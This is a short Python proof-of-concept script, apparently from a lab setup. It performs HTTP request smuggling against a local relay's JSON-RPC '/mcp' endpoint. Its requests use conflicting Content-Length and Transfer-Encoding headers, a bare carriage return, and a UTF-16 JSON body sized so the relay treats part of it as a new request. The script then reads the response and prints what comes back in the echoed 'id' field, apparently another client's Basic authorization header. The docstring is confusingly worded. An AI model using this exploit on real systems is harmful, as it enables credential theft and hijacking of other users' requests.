# SPDX-License-Identifier: MIT
"""echoed.py (by standard input, in the guest): at 9100, whose answers quote an id, a body whose inside the relay could take for
a request. As UTF-16, in which JSON may be, a header in it is part of a string. Prints what was sent, then what came back."""
import json
import re
import socket

HEADER = len("Authorization: Basic ") + 68 + 2
INSIDE = '{"jsonrpc":"2.0","method":"ping","id":"GET \u0a41'.encode("utf-16-le")
REST = b"A" * (HEADER % 2) + '"}'.encode("utf-16-le")
SIZE = len(INSIDE) + HEADER + len(REST)

for head in (f"X: y\rContent-Length: {SIZE}", f"Content-Length: {SIZE}\r\nTransfer-Encoding: chunked"):
    with socket.create_connection(("127.0.0.1", 19100)) as s:
        s.settimeout(3)
        print("POST /mcp")
        s.sendall(f"POST /mcp HTTP/1.1\r\nHost: 127.0.0.1\r\n{head}\r\n\r\n".encode() + INSIDE + REST + b"\n\n\n")
        answer = b""
        try:
            while piece := s.recv(65536):
                answer += piece
        except OSError:
            pass
        for text in re.findall(rb'"id": (".*?")', answer):
            print(json.loads(text).encode("utf-16-le"))
